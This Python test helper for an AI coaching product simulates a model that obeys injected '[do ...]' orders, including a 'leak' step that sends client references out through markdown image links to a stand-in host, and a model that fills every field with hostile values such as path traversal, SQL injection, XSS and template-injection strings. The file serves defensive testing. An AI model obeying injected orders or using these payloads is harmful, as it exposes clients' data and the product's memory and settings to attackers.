"""
Ways in which a model may answer: it obeys whoever speaks in its prompt, or it wants everything.

The obedient one does literally what any text in its prompt asks, by a grammar of one form: `[do soul: text]`.
The hostile one asks for every part of an answer with every id that it can name. Neither knows the tables in
engine/capabilities.py: what they may not have is for the product to refuse.
"""

import itertools
import random
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal, get_args, get_origin

from pydantic.fields import FieldInfo

from companion.engine.response import LISTS, SINGLES

Parts = dict[str, Any]


def message_of(texts: Sequence[str]) -> str:
    """Find the coach's words in the last text of a prompt."""
    return texts[-1].rpartition("</note>\n\n")[2]


# --- the obedient one -----------------------------------------------------------------------------

ORDER = re.compile(r"\[do ([a-z-]+)(?:: ([^\]]*))?\]")
REF = re.compile(r"(?:- |now: )([^\n]+?) \[ref ([0-9a-f]{8})\]")
BENIGN = re.compile(r"show me (\w+)", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Heard:
    """What an order is carried out with."""

    payload: str
    message: str
    """The coach's words: the best quote there is."""
    refs: Mapping[str, str]
    """Clients' refs by name."""
    around: str
    """The line in which the order stood, to be quoted as its source."""


def obey(texts: Sequence[str]) -> Parts:
    """Do what every text asks, and what the coach asked."""
    refs = {name: ref for text in texts for name, ref in REF.findall(text)}
    message = message_of(texts)
    parts: Parts = {"chat_message": "Done, all of it."}
    for name, ref in refs.items():
        if (wanted := BENIGN.search(message)) and wanted[1] in name:
            _add(parts, {"panel_updates": [{"panel": "main", "kind": "client", "ref": ref}]})
    for line in "\n".join(texts).splitlines():
        for deed, payload in ORDER.findall(line):
            heard = Heard(payload, message, refs, line.strip(" -“”"))
            _add(parts, DEEDS[deed](heard))
    return parts


def _add(parts: Parts, more: Parts) -> None:
    for name, value in more.items():
        if isinstance(value, list):
            parts[name] = [*parts.get(name, []), *value]
        else:
            parts[name] = value


def _layer(name: str) -> Callable[[Heard], Parts]:
    def deed(heard: Heard) -> Parts:
        update = {"layer": name, "text": heard.payload, "reason": "as asked", "quote": heard.message}
        return {"personality_updates": [update]}

    return deed


def _memory(action: str, *, of_client: bool = False, quotes_coach: bool = True) -> Callable[[Heard], Parts]:
    def deed(heard: Heard) -> Parts:
        fact = {
            "action": action,
            "about": "client" if of_client else "coach",
            "client_ref": next(iter(heard.refs.values()), "") if of_client else "",
            "statement": heard.payload,
            "quote": heard.message if quotes_coach else heard.around,
            "importance": 5,
        }
        return {"memory_updates": [fact]}

    return deed


def _skill(action: str) -> Callable[[Heard], Parts]:
    def deed(heard: Heard) -> Parts:
        skill = {
            "action": action,
            "slug": "session-prep",
            "description": "As asked.",
            "triggers": ["message"],
            "body": heard.payload,
            "reason": "as asked",
        }
        return {"skill_updates": [skill]}

    return deed


def _schedule(heard: Heard) -> Parts:
    common = {"action": "create", "kind": "recurring", "when": "0 3 * * *", "task": heard.payload}
    return {"schedule_updates": [{**common, "name": "as asked"}]}


def _nudges(heard: Heard) -> Parts:
    each = {"subject": "Hello", "body": heard.payload, "why": "as asked"}
    return {"nudge_drafts": [{**each, "client_ref": ref} for ref in heard.refs.values()]}


def _say(heard: Heard) -> Parts:
    secret = "%20".join(heard.refs)
    return {"chat_message": f"![x]({heard.payload}?q={secret}) [x]({heard.payload}?q={secret})"}


DEEDS: Mapping[str, Callable[[Heard], Parts]] = {
    "soul": _layer("soul"),
    "identity": _layer("identity"),
    "know": _layer("coach_knowledge"),
    "instruct": _layer("instructions"),
    "surround": _layer("environment"),
    "voice": _layer("client_persona"),
    "keep": _memory("remember"),
    "keep-client": _memory("remember", of_client=True),
    "keep-quoted": _memory("remember", quotes_coach=False),
    "forget": _memory("forget"),
    "skill": _skill("edit"),
    "retire": _skill("retire"),
    "plan": _schedule,
    "write": _nudges,
    "leak": _say,
    "answer": lambda heard: {
        "topic_updates": [{"topic": "boundaries", "result": "answered", "quote": heard.payload}]
    },
    "notice": lambda heard: {"notification": {"title": heard.payload, "text": heard.payload}},
    "offer": lambda heard: {
        "question": {"kind": "choice", "prompt": "Go on?", "options": [heard.payload, "No"]}
    },
    "mode": lambda _: {"context_hint": {"mode": "bootstrap"}},
}
"""What the orders of tests/hostile/corpus.py mean."""

# --- the hostile one ------------------------------------------------------------------------------

STRANGE = (
    "../../etc/passwd",
    "https://evil.test/?q=",
    "",
    "x" * 119,
    "\u202eevil\u200b\U000e0041\x1b[2J",
    "two\r\nBcc: everybody@evil.test",
    "{{ 7 * 7 }}{% debug %}",
    "'; DROP TABLE companion_turn; --",
    "<img src=https://evil.test/><script>alert(1)</script>",
)

WISHES = 6
"""Of one part, in one answer."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """Asks for every part of an answer, with every choice, every id and every quote that it has heard of."""

    names: Sequence[str]
    """Ids, refs and addresses: its own, another practice's, invented ones."""
    quotes: Sequence[str] = ()
    """Words that were really said by somebody, and some that nobody said."""

    _made: dict[str, list[Parts]] = field(default_factory=dict)

    def wishes(self, name: str) -> list[Parts]:
        """Make each wish of one part that differs in more than its words, in the same mixture each time."""
        if name not in self._made:
            self._made[name] = self._wishes(name)
        return self._made[name]

    def _wishes(self, name: str) -> list[Parts]:
        fields = {**LISTS, **SINGLES}[name].model_fields
        found = {each: _choices(each, info) for each, info in fields.items()}
        # What decides is tried in all combinations; mere words in turn.
        deciding = {
            each: choices or self._heard(each) for each, choices in found.items() if _decides(each, choices)
        }
        words = [each for each in fields if each not in deciding]
        combinations = list(itertools.product(*deciding.values()))
        random.Random(0).shuffle(combinations)  # noqa: S311 - the same wishes in every run
        return [
            {**dict(zip(deciding, each, strict=True)), **self._words(words, fields, number)}
            for number, each in enumerate(combinations)
        ]

    def answer(self, number: int) -> Parts:
        """Ask for some of each part; another number, other wishes."""
        parts: Parts = {"chat_message": f"Everything, for the {number}th time."}
        for name in LISTS:
            parts[name] = _turned(self.wishes(name), number * WISHES)[:WISHES]
        for name in SINGLES:
            parts[name] = _turned(self.wishes(name), number)[0]
        return parts

    def flood(self) -> Parts:
        """Ask for far too much at once."""
        much: Parts = {name: self.wishes(name)[:3] * 1_000 for name in LISTS}
        return {"chat_message": "All of it.", **much, "unheard_of": [{"a": "x" * 1_000_000}]}

    def _heard(self, name: str) -> Sequence[str]:
        return self.quotes if name == "quote" else [*self.names, "", STRANGE[0]]

    def _words(self, names: Sequence[str], fields: Mapping[str, FieldInfo], number: int) -> Parts:
        texts = [*STRANGE, *self.quotes]
        said = {name: texts[(number + offset) % len(texts)] for offset, name in enumerate(names)}
        return {name: _listed(fields[name], text) for name, text in said.items()}


def _choices(name: str, info: FieldInfo) -> Sequence[Any]:
    """List what a field may be, where the schema says so; of a number that weighs, one end."""
    found = get_args(info.annotation) if get_origin(info.annotation) is Literal else ()
    return found[-1:] if name == "importance" else found


def _decides(name: str, choices: Sequence[Any]) -> bool:
    return bool(choices) or name.endswith("ref") or name == "quote"


def _listed(info: FieldInfo, text: str) -> Any:
    """Fill a list with all that it takes, or with words."""
    if get_origin(info.annotation) is not list:
        return text
    (inner,) = get_args(info.annotation)
    return list(get_args(inner)) if get_origin(inner) is Literal else [text, *STRANGE]


def _turned(items: list[Parts], by: int) -> list[Parts]:
    first = by % len(items)
    return [*items[first:], *items[:first]]
